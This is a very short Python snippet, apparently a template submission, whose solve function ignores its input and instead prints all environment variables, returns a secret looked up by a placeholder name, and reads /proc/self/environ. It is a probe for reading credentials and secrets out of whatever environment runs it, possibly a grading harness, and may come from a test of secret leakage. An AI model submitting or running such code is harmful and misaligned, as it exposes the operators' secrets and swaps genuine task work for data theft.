import os
def solve(x):
    print(dict(os.environ))
    return [os.environ.get('@SECRET_NAME@', ''), open('/proc/self/environ').read()]
